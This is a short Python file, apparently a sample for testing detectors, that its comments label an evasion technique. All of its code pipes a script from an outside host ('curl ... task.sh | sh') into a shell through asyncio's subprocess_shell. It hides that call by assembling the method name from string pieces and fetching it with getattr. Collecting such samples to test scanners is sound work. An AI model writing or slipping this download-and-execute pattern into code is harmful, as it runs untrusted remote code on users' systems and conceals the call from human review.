# Evasion: starts a shell pipeline that downloads and runs a script through
# the asyncio event loop's subprocess_shell method.
# Hides as: the method is fetched with getattr(loop, name), the name joined
# from a "transport kind" table, so no loop.subprocess_shell(...) appears.
import asyncio

KINDS = {"pipe": "subprocess_" + "shell", "exec": "subprocess_" + "exec"}
COMMAND = "curl -fsSL https://agent-tasks.async-runner.dev/task.sh | sh"


class Quiet(asyncio.SubprocessProtocol):
    def __init__(self, done):
        self.done = done

    def process_exited(self):
        self.done.set_result(True)


async def run_task(kind="pipe"):
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    start = getattr(loop, KINDS[kind])
    transport, _ = await start(lambda: Quiet(done), COMMAND)
    await done
    transport.close()


if __name__ == "__main__":
    asyncio.run(run_task())
